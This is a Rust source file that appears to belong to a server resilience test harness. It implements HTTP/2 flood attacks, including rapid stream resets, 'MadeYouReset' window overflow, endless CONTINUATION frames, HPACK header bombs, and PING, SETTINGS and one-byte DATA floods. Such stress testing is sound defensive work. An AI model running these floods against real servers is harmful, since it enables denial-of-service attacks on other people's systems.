//! Floods: frames that a client can send without limit.
//!
//! * In: a [`HostileClient`]. Out: the next frames of a flood, in the client's send buffer. Always: each frame is
//!   legal, or would be in smaller numbers; the frames that a flood requires first are sent first on every connection.

use bytes::{BufMut, Bytes, BytesMut};

use crate::{
    hostile_client::{ENDLESS, HostileClient},
    http2::{
        ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, Frame, HEADERS, INITIAL_WINDOW_SIZE, PING, SETTINGS,
        grpc_message, grpc_request, header_block,
    },
};

/// Adds the next frames of a flood. Called until a batch is full.
pub type Flood = fn(&mut HostileClient);

const PRIORITY: u8 = 0x2;
/// A frame type that no version of HTTP/2 defines.
const UNKNOWN: u8 = 0xfa;
const WINDOW: u32 = 65_535;

/// Opens a stream, with the request message if the connection's window has room. Without room, the server would close
/// the connection for the exceeded window, and not for the flood.
fn open_stream(client: &mut HostileClient) -> u32 {
    if client.received.room > 1000 { client.get() } else { client.begin() }
}

pub fn resets_at_once(client: &mut HostileClient) {
    let stream = open_stream(client);
    client.put(&Frame::reset(stream, CANCEL));
}

/// Keeps at most a hundred streams open, so that no stream waits to be accepted.
pub fn resets_answered_streams(client: &mut HostileClient) {
    while let Some(stream) = client.received.answered.pop_front() {
        client.put(&Frame::reset(stream, CANCEL));
        client.get();
    }
    if client.streams() == 0 {
        for _ in 0..100 {
            client.get();
        }
    }
}

/// Exceeds the maximum window size (RFC 9113, section 6.9.1): "MadeYouReset".
pub fn makes_the_server_reset(client: &mut HostileClient) {
    let stream = open_stream(client);
    client.put(&Frame::window_update(stream, ENDLESS));
}

pub fn continues_without_end(client: &mut HostileClient) {
    if client.streams() == 0 {
        let stream = client.new_stream();
        client.put(&Frame::new(HEADERS, 0, stream, header_block([(":method", "POST")])));
    }
    client.put(&Frame::new(CONTINUATION, 0, 1, header_block([("x", "y".repeat(1000).as_str())])));
}

pub fn continues_with_nothing(client: &mut HostileClient) {
    if client.streams() == 0 {
        let stream = client.new_stream();
        client.put(&Frame::new(HEADERS, 0, stream, Bytes::new()));
    }
    client.put(&Frame::new(CONTINUATION, 0, 1, Bytes::new()));
}

fn request_with(client: &mut HostileClient, fields: &[u8]) {
    let stream = client.new_stream();
    let mut block = BytesMut::from(&grpc_request("/")[..]);
    block.extend_from_slice(fields);
    let mut frames = block.freeze();
    let mut kind = HEADERS;
    while !frames.is_empty() {
        let payload = frames.split_to(frames.len().min(16 * 1024));
        let flags = if frames.is_empty() { END_HEADERS } else { 0 };
        client.put(&Frame::new(kind, flags, stream, payload));
        kind = CONTINUATION;
    }
}

pub fn one_long_header(client: &mut HostileClient) {
    request_with(client, &header_block([("x", "y".repeat(20_000).as_str())]));
}

pub fn many_small_headers(client: &mut HostileClient) {
    let names: Vec<String> = (0..1000).map(|number| format!("x{number}")).collect();
    request_with(client, &header_block(names.iter().map(|name| (name.as_str(), ""))));
}

/// A field of 4 KiB that the server adds to its dynamic table, repeated ten thousand times by one byte (RFC 7541,
/// section 6.1).
pub fn a_bomb_of_headers(client: &mut HostileClient) {
    // The newest entry comes first, after the 61 entries of the static table.
    const NEWEST: u8 = 0x80 | 62;
    let literal = header_block([("x", "y".repeat(4000).as_str())]);
    let mut fields = BytesMut::new();
    // The same literal, with incremental indexing.
    fields.put_u8(0x40);
    fields.extend_from_slice(&literal.slice(1..));
    fields.put_bytes(NEWEST, 10_000);
    request_with(client, &fields);
}

pub fn ping(client: &mut HostileClient) {
    client.put(&Frame::new(PING, 0, 0, vec![7; 8]));
}

/// Answers to PINGs that the server has not sent.
pub fn pongs(client: &mut HostileClient) {
    client.put(&Frame::new(PING, ACK, 0, vec![7; 8]));
}

pub fn settings(client: &mut HostileClient) {
    client.put(&Frame::settings(&[(INITIAL_WINDOW_SIZE, WINDOW)]));
}

pub fn empty_settings(client: &mut HostileClient) {
    client.put(&Frame::new(SETTINGS, 0, 0, Bytes::new()));
}

/// Each frame changes the window of a hundred streams.
pub fn settings_that_matter(client: &mut HostileClient) {
    while client.streams() < 100 {
        client.get();
    }
    client.put(&Frame::settings(&[(INITIAL_WINDOW_SIZE, 0)]));
    client.put(&Frame::settings(&[(INITIAL_WINDOW_SIZE, WINDOW)]));
}

pub fn empty_data(client: &mut HostileClient) {
    let stream = if client.streams() == 0 { client.begin() } else { 1 };
    client.put(&Frame::new(DATA, 0, stream, Bytes::new()));
}

/// The bytes belong to a message of the maximum size.
pub fn data_of_one_byte(client: &mut HostileClient) {
    let stream = if client.streams() == 0 {
        let stream = client.begin();
        client.put(&Frame::new(DATA, 0, stream, grpc_message(&[0; 16 * 1024]).slice(..5)));
        stream
    } else {
        1
    };
    client.put(&Frame::new(DATA, 0, stream, vec![0]));
}

/// A thousand such messages, none of which is ever complete.
pub fn data_of_one_byte_on_many_streams(client: &mut HostileClient) {
    if client.streams() == 0 {
        for _ in 0..1000 {
            let stream = client.begin();
            client.put(&Frame::new(DATA, 0, stream, grpc_message(&[0; 16 * 1024]).slice(..5)));
        }
    }
    for number in 0..1000 {
        client.put(&Frame::new(DATA, 0, 2 * number + 1, vec![0]));
    }
}

pub fn windows_of_one_byte(client: &mut HostileClient) {
    let stream = if client.streams() == 0 { client.get() } else { 1 };
    client.put(&Frame::window_update(0, 1));
    client.put(&Frame::window_update(stream, 1));
}

pub fn priorities(client: &mut HostileClient) {
    // For streams that are never opened.
    let stream = client.new_stream();
    client.put(&Frame::new(PRIORITY, 0, stream, vec![0, 0, 0, 0, 16]));
}

pub fn unknown_frames(client: &mut HostileClient) {
    client.put(&Frame::new(UNKNOWN, 0xff, 0, Bytes::new()));
}
